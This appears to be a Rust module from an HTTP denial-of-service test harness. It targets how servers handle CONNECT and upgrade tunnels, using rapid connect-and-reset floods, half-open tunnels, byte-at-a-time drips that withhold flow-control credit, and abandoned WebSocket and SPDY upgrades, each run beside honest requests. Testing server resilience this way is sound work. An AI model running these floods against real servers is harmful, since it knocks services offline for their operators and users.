//! Tunnels: opened and abandoned, half-open, and with data that drips.

use std::time::{Duration, Instant};

use crate::attack::case::Case;
use crate::attack::dialect::{Dialect, H1, MULTIPLEXED};
use crate::attack::peer::Peer;
use crate::attack::play::Play;
use crate::attack::seen::Manners;
use crate::attack::wire::{Fin, Start, Wire};

type Played = Result<Vec<Peer>, String>;

const HONEST: &str = "honest/small-requests";

pub(super) const CASES: &[Case] = &[
    // The 2xx may cross the reset, as the response of any other request.
    Case::bounded(
        "tunnels/connect-resets",
        "1 tunnels",
        MULTIPLEXED,
        connect_resets,
    )
    .beside(HONEST)
    .busy(),
    Case::bounded("tunnels/half-open", "18 tunnels", MULTIPLEXED, half_open).beside(HONEST),
    Case::bounded("tunnels/drip", "7 11 tunnels", MULTIPLEXED, drip)
        .beside(HONEST)
        .busy(),
    Case::bounded("tunnels/upgrades-abandoned", "29 tunnels", H1, |play| {
        abandoned(play, "websocket", |_| {})
    })
    .beside(HONEST)
    .busy(),
    Case::bounded(
        "tunnels/spdy-upgrades-abandoned",
        "S8 tunnels",
        H1,
        |play| {
            abandoned(play, "SPDY/3.1", |peer| {
                // Four streams as kubectl opens them, and a frame that never ends.
                let mut wire = streams();
                wire.data(1, b"some", Fin::More);
                wire.data_head(3, 1_000, Fin::More);
                peer.wire.raw(wire.take());
            })
        },
    )
    .beside(HONEST)
    .busy(),
    Case::bounded("tunnels/spdy-upgrades-drip", "S8 tunnels", H1, spdy_drip)
        .beside(HONEST)
        .busy(),
];

fn connect(peer: &mut Peer) -> u32 {
    peer.request("CONNECT", "victim:80", Fin::More, &[])
}

fn connect_resets(play: &mut Play<'_>) -> Played {
    let mut peer = play.connect()?;
    for _ in 0..play.small_or(20_000, 100_000) {
        let id = connect(&mut peer);
        peer.wire.reset(id);
        peer.opened.clear();
        if peer.seen().closed.is_some() {
            break;
        }
    }
    peer.flush();
    Ok(vec![peer])
}

/// Connections with a hundred tunnels each. Half of each tunnel is closed, and the server's half
/// waits for a client that says nothing.
fn half_open(play: &mut Play<'_>) -> Played {
    let mut peers = Vec::new();
    for _ in 0..play.small_or(10, 50) {
        let mut peer = play.connect_as(Manners::Stingy)?;
        for number in 0..100 {
            let id = connect(&mut peer);
            peer.data_in_credit(id, b"x", if number % 2 == 0 { Fin::End } else { Fin::More });
        }
        peer.flush();
        peers.push(peer);
    }
    opened(play, &peers, "200");
    Ok(peers)
}

/// The victim answered so: otherwise the case would attack nothing.
fn opened(play: &mut Play<'_>, peers: &[Peer], status: &str) {
    std::thread::sleep(Duration::from_millis(500));
    let agreed = |peer: &Peer| {
        let seen = peer.seen();
        seen.statuses.values().filter(|one| *one == status).count()
    };
    let count: usize = peers.iter().map(agreed).sum();
    if count == 0 {
        play.fail("no tunnel was opened");
    }
    play.note(format!("{count} tunnels"));
}

/// A hundred tunnels that echo; each gets a byte in turn, and gives no credit back.
fn drip(play: &mut Play<'_>) -> Played {
    let mut peers = Vec::new();
    for _ in 0..2 {
        let mut peer = play.connect_as(Manners::Stingy)?;
        for _ in 0..100 {
            connect(&mut peer);
        }
        peer.flush();
        peers.push(peer);
    }
    opened(play, &peers, "200");
    let end = Instant::now() + play.flood_time();
    while Instant::now() < end && peers.iter().any(|peer| peer.seen().closed.is_none()) {
        for peer in &mut peers {
            let ids = peer.opened.clone();
            for id in ids {
                peer.data_in_credit(id, b"x", Fin::More);
            }
            peer.flush_within(Duration::from_millis(100));
        }
    }
    Ok(peers)
}

/// A connection that asks to switch, once the victim has agreed.
fn upgrade(play: &Play<'_>, protocol: &str) -> Result<Peer, String> {
    let mut peer = play.socket(Manners::Mute)?;
    peer.wire.raw(format!(
        "GET /tunnel HTTP/1.1\r\nhost: v\r\nconnection: upgrade\r\nupgrade: {protocol}\r\n\r\n"
    ));
    peer.flush();
    let agreed = peer.wait(Duration::from_secs(3), |seen| {
        seen.http1.starts_with(b"HTTP/1.1 101")
    });
    match agreed {
        true => Ok(peer),
        false => Err(format!("no upgrade to {protocol}")),
    }
}

/// Upgrades again and again, each of which is left at once.
fn abandoned(play: &mut Play<'_>, protocol: &str, then: fn(&mut Peer)) -> Played {
    let end = Instant::now() + play.flood_time();
    let mut count = 0_u32;
    while Instant::now() < end {
        let mut peer = upgrade(play, protocol)?;
        then(&mut peer);
        peer.flush();
        play.leave(peer);
        count += 1;
    }
    play.note(format!("{count} upgrades"));
    Ok(vec![upgrade(play, protocol)?])
}

fn streams() -> Wire {
    let mut wire = Wire::new(Dialect::Spdy31);
    for id in [1, 3, 5, 7] {
        let start = Start::Request {
            method: "POST",
            path: "/exec",
        };
        wire.head(id, start, Fin::More, &[]);
    }
    wire
}

/// Many connections in SPDY/3.1 after an upgrade, whose streams bring a byte now and then.
fn spdy_drip(play: &mut Play<'_>) -> Played {
    let mut peers = Vec::new();
    for _ in 0..play.small_or(60, 500) {
        let mut peer = upgrade(play, "SPDY/3.1")?;
        peer.wire.raw(streams().take());
        peer.flush();
        peers.push(peer);
    }
    let end = Instant::now() + play.flood_time();
    let mut wire = Wire::new(Dialect::Spdy31);
    for id in [1, 3, 5, 7] {
        wire.data(id, b"x", Fin::More);
    }
    let drip = wire.take();
    while Instant::now() < end {
        for peer in &mut peers {
            peer.wire.raw(&drip);
            peer.flush_within(Duration::from_millis(20));
        }
    }
    Ok(peers)
}
